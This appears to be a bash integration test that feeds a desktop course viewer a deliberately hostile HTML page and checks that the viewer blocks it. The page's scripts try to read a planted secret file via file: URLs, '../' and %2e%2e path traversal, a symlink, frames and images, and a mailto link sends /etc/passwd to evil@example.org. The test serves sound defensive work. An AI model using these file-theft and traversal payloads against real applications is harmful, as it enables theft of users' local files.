#!/usr/bin/env bash
# Drives the real program on a demo course made hostile: its results page
# (named in other letter case) tries to read a secret planted beside the
# course (XMLHttpRequest, fetch, a frame, a picture at file: addresses,
# climbing out, a link leading out); its first banner is a pipe that nobody
# writes to, which must not keep the window from showing within 5 s; a web
# page it frames tries the same and
# the course's own files; its mousedown handlers open windows and go to a mail
# address with a file attached. Its own files, in any letter case, must still
# show and read. Each try reports itself to a local server, which stands in
# for the web, as a recording xdg-open does for the desktop's opener.
# Checks the reports, the addresses opened and the screen.
# Usage: run-hostile-course.sh TOVRELLE_BINARY SOURCE_DIR WORK_DIR
set -euo pipefail
binary=$1 source=$2 work=$3

fail() { echo "FAIL: $*" >&2; exit 1; }

source "$source/scripts/demo-session.sh"
rm -rf "$work" && mkdir -p "$work/bin"
prepare_demo_course "$binary" "$source" "$work/course"
course=$work/course

# The secret lies beside the course; a link inside the course leads to it.
echo "SECRET-TOKEN" >"$work/secret.txt"
convert -size 8x8 xc:red "$work/secret.png"
ln -s "$work/secret.txt" "$course/Media/leak.txt"

# The first banner of the rotation is a pipe: reading it would wait for ever.
rm "$course/Sponsors/northwind.gif"
mkfifo "$course/Sponsors/northwind.gif"

# The results page, under a name in other letter case than the program asks for.
rm "$course/Media/frel_mabr.htm"
cat >"$course/Media/Frel_Mabr.HTM" <<PAGE
<html><body style="margin:0;background:#1d054f;color:#fff;font:14px sans-serif">
<style>.press { position:absolute; left:0; width:300px; height:50px; background:#404040 }</style>
<p>Hostile course page</p>
<img id="picture" src="IMG_LESSONS.JPG" style="position:absolute;left:400px;top:60px;width:200px;height:100px">
<iframe id="own" src="../sponsors/INDEX.HTM" style="position:absolute;left:400px;top:180px;width:300px;height:100px"></iframe>
<iframe id="outside" src="file://$work/secret.txt" style="width:10px;height:10px"></iframe>
<iframe src="http://remote.test/remote-hostile?secret=$work/secret.txt" style="width:10px;height:10px"></iframe>
<div id="opener" class="press" style="top:290px">Opens</div>
<div id="mover" class="press" style="top:350px">Moves</div>
<a class="press" style="top:410px" target="_blank" href="http://www.tovrelle.com/clicked-link">Window</a>
<a class="press" style="top:470px" href="mailto:learner@example.com?subject=Hi&amp;attach=$work/secret.txt">Mail</a>
<a id="sabotaged" class="press" style="top:530px;height:30px" target="_blank" href="http://www.tovrelle.com/sabotaged">Sabotaged</a>
<script src="http://report.test/tries.js"></script><script>
readable('xhr-file', 'file://$work/secret.txt', 'SECRET');
readable('xhr-climb', '../../secret.txt', 'SECRET');
readable('xhr-escaped', 'tovrelle://course/Media/%2e%2e/%2e%2e/secret.txt', 'SECRET');
readable('xhr-absolute', 'tovrelle://course/$work/secret.txt', 'SECRET');
readable('xhr-link', 'leak.txt', 'SECRET');
readable('xhr-own', '../SPONSORS/SP.DAT', 'num');
fetch('file://$work/secret.txt').then(() => report('fetch-file', 'read'), () => report('fetch-file', 'blocked'));
shown('img-file', 'file://$work/secret.png');
shown('img-own', 'Img_Lessons.Jpg');
setTimeout(() => {
  const framed = document.getElementById('outside').contentDocument;
  report('frame-file', framed && !framed.body.innerText.includes('SECRET') ? 'blocked' : 'opaque');
  const own = document.getElementById('own').contentDocument;
  report('frame-own', own && own.body.innerText.includes('sponsors') ? 'read' : 'failed');
}, 3000);
document.getElementById('opener').addEventListener('mousedown', () => window.open('http://popup.test/by-mousedown'));
document.getElementById('mover').addEventListener('mousedown', () => {
  location.href = 'mailto:evil@example.org?attach=/etc/passwd';
});
document.getElementById('sabotaged').addEventListener('mousedown', () => window.open('http://popup.test/beside-link'));
</script></body></html>
PAGE
start_xvfb

start_offline_program "$source" "$work" || fail "the local server did not start"
app=$APP_PID server=$SERVER_PID
started=$SECONDS
trap 'kill $app $server $XVFB_PID 2>/dev/null || true' EXIT

window_place || fail "no window captioned Tovrelle"
[ $((SECONDS - started)) -le 5 ] || fail "the window took $((SECONDS - started)) s to show"
sleep 2

# Places are given in the window's main panel, which lies at -5, -5 in the
# window; the results view lies at 254, 141 in it.
click() { xdotool mousemove $((left + $1 - 5)) $((top + $2 - 5)) click 1; sleep 0.6; }
# On the page the pointer comes to rest before the press, as a hand's does.
page_click() {
  xdotool mousemove $((left + 254 + $1 - 5)) $((top + 141 + $2 - 5)); sleep 0.5
  xdotool click 1; sleep 0.6
}
shot() { import -window root "$work/$1.png"; }
screen_pixel() { pixel "$work/$1.png" $((left + $2 - 5)) $((top + $3 - 5)); }
reports() { grep -o 'report.test/[^ ]*=[^ ]*' "$work/requests.log" | sed 's|report.test/||' | sort; }

# The resources tab shows the results page: the engine starts now.
click 146 91
for _ in $(seq 1 60); do [ "$(reports | wc -l)" -ge 16 ] && break; sleep 0.5; done
shot resources

page_click 150 315   # opens a window on mousedown
page_click 150 375   # goes to a mail address on mousedown
page_click 150 435   # the link meant for a new window
page_click 150 495   # the mail link with a file attached
page_click 150 545   # a link that opens another window on mousedown
sleep 2
shot pressed
kill -0 "$app" 2>/dev/null || fail "the program ended by itself"

expected_reports="fetch-file=blocked frame-file=blocked frame-own=read img-file=blocked img-own=shown
remote-fetch-file=blocked remote-img-course=blocked remote-img-file=blocked remote-xhr-course=blocked
remote-xhr-file=blocked xhr-absolute=blocked xhr-climb=blocked xhr-escaped=blocked xhr-file=blocked
xhr-link=blocked xhr-own=read"
[ "$(reports | xargs)" = "$(echo $expected_reports)" ] || fail "reports: $(reports | xargs)"
grep -q SECRET "$work/requests.log" && fail "the secret reached the server"

# The sabotaged link's own window may or may not come: the engine lets a
# page's script use up the click that would open it.
expected_opened="http://www.tovrelle.com/clicked-link
mailto:learner@example.com?subject=Hi"
[ "$(grep -v /sabotaged "$work/opened.log")" = "$expected_opened" ] || fail "addresses opened:
$(cat "$work/opened.log")
expected:
$expected_opened"

# The course's own picture shows in the page, under a name in other letter case.
own_picture=$(convert "$course/Media/img_lessons.jpg" -resize '200x100!' -crop 1x1+100+50 \
  -format '%[fx:int(255*r+0.5)] %[fx:int(255*g+0.5)] %[fx:int(255*b+0.5)]' info:)
close_to "$(screen_pixel resources $((254 + 500)) $((141 + 110)))" "$own_picture" 40 \
  || fail "the course's picture does not show: $(screen_pixel resources $((254 + 500)) $((141 + 110)))"
close_to "$(screen_pixel resources $((254 + 150)) $((141 + 20)))" "29 5 79" \
  || fail "the results page does not show: $(screen_pixel resources $((254 + 150)) $((141 + 20)))"
echo "$(reports | wc -l) tries reported as expected, 2 clicked links opened and nothing else, in $((SECONDS - started)) s; screenshots in $work"
